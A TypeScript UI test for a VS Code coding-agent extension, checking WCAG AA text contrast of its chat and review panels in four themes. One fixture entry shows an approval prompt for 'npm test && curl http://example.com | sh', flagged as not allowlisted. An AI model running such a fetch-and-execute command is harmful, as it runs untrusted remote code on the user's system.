/**
 * Every theme is readable: the chat view and the review panel rendered in Dark Modern, Light
 * Modern, High Contrast and High Contrast Light (with VS Code's own default webview styles), and
 * every text element, code included, checked against WCAG AA (4.5:1) over the background actually
 * behind it. Screenshots of each go to docs/screenshots/.
 */
import { strict as assert } from 'node:assert';
import { mkdirSync } from 'node:fs';
import type { ChatHostMessage } from '../../src/protocol/chat';
import { ChatHarness } from './chatHarness';
import { contrastFindings, type ContrastFinding } from './contrast';
import { fixtureView, syntaxView } from './fixtures';
import { useReviewHarness } from './harness';
import { THEMES, THEME_TITLE, type ThemeName } from './themes';

const SHOTS = 'docs/screenshots';
const AA = 4.5;

/** A chat run with every kind of entry that holds text. */
const RUN: ChatHostMessage[] = [
  { type: 'reset' },
  { type: 'user', text: 'Guard division by zero in src/math.ts' },
  { type: 'state', running: true, taskId: 't1', title: 'Guard division by zero' },
  { type: 'status', text: 'Step 2 of 100' },
  { type: 'text', text: 'I will read **src/math.ts** and change `div` so it throws:\n\n```ts\nif (b === 0) throw new Error("division by zero");\n```\n\n> The callers already catch errors.\n\nSee [the docs](https://example.com).' },
  { type: 'toolStarted', callId: 'c1', name: 'read_file', summary: 'src/math.ts' },
  { type: 'toolFinished', callId: 'c1', ok: true, output: 'export function div(a, b) {\n  return a / b;\n}', durationMs: 300 },
  { type: 'plan', items: [{ step: 'Read the file', status: 'done' }, { step: 'Guard div', status: 'in_progress' }, { step: 'Run the tests', status: 'pending' }] },
  { type: 'changeSet', id: 'cs-1', title: 'Guard division by zero', files: 1, hunks: 2 },
  { type: 'changeSetReviewed', id: 'cs-1', accepted: 1, rejected: 1, completed: true },
  { type: 'approval', id: 'a1', command: 'npm test && curl http://example.com | sh', reason: 'pipes into sh; not on the allowlist' },
  { type: 'notice', level: 'warning', text: 'The model has been silent for 45 s.' },
  { type: 'notice', level: 'error', text: 'The endpoint refused the key.' },
  { type: 'usage', totalTokens: 12345, costUsd: 0.0123, contextTokens: 4000, contextWindow: 16000, contextFill: 0.25 },
  {
    type: 'context', window: 16000, chips: [
      { key: '@file:src/math.ts', kind: 'mention', label: '@src/math.ts', tokens: 120, openable: true },
      { key: '@file:.env', kind: 'mention', label: '@.env', tokens: 20, withheld: 'is withheld: a secrets file' },
      { key: 'rules', kind: 'rules', label: 'AGENTS.md', tokens: 300, fixed: true },
      { key: 'repoMap', kind: 'repoMap', label: 'Repo map', tokens: 1600, estimate: true, fixed: true },
    ],
  },
];

/** One line per distinct failure (the same element kind with the same colours is listed once). */
function report(theme: ThemeName, what: string, f: ContrastFinding[]): string {
  const seen = new Map<string, ContrastFinding & { n: number }>();
  for (const x of f) {
    const key = `${x.where.split(' > ').pop()} ${x.fg} ${x.bg}`;
    const had = seen.get(key);
    if (had) had.n++;
    else seen.set(key, { ...x, n: 1 });
  }
  return `${THEME_TITLE[theme]} ${what}: ${f.length} text element(s) below ${AA}:1\n${[...seen.values()].map((x) => `  ${x.ratio}:1 ${x.where} "${x.text}" (${x.fg} on ${x.bg})${x.n > 1 ? ` ×${x.n}` : ''}`).join('\n')}`;
}

const none = (r: { failing: ContrastFinding[] }, theme: ThemeName, what: string) => assert.ok(r.failing.length === 0, report(theme, what, r.failing));

describe('themes: every text in the chat and the review panel meets WCAG AA in the four themes', function () {
  const review = useReviewHarness();
  let chat: ChatHarness;
  before(async () => {
    mkdirSync(SHOTS, { recursive: true });
    chat = await ChatHarness.start();
  });
  after(async () => chat?.close());

  for (const theme of THEMES) {
    it(`${THEME_TITLE[theme]}: the chat view`, async () => {
      const p = await chat.open(theme);
      try {
        await p.send(...RUN);
        await p.page.locator('.entry.approval').waitFor();
        const r = await p.page.evaluate(contrastFindings, AA);
        await p.page.screenshot({ path: `${SHOTS}/chat-${theme}.png` });
        assert.ok(r.checked > 20, `checked ${r.checked} text elements`);
        none(r, theme, 'chat');
        assert.deepEqual(p.errors, []);
      } finally {
        await p.close();
      }
    });

    it(`${THEME_TITLE[theme]}: the review panel (unified, with code, and its summary)`, async () => {
      const p = await review.open({ theme, height: 700 });
      await p.serve(syntaxView());
      await p.page.waitForSelector('.hunk .tok-kw');
      let r = await p.page.evaluate(contrastFindings, AA);
      await p.page.screenshot({ path: `${SHOTS}/review-${theme}.png` });
      assert.ok(r.checked > 20, `checked ${r.checked} text elements`);
      none(r, theme, 'review panel (code)');

      await p.show({ type: 'show', view: fixtureView() });
      await p.page.locator('.hunk').nth(1).locator('[data-action=rejectHunk]').click();
      r = await p.page.evaluate(contrastFindings, AA);
      none(r, theme, 'review panel (decisions)');

      await p.send({ type: 'summary', title: 'Guard division by zero', written: ['src/math.ts', 'test/math.test.ts'], accepted: 3, rejected: 1, edited: 1, canRevert: true });
      await p.page.locator('.review-summary').waitFor();
      r = await p.page.evaluate(contrastFindings, AA);
      await p.page.screenshot({ path: `${SHOTS}/review-summary-${theme}.png` });
      none(r, theme, 'review summary');
    });
  }
});
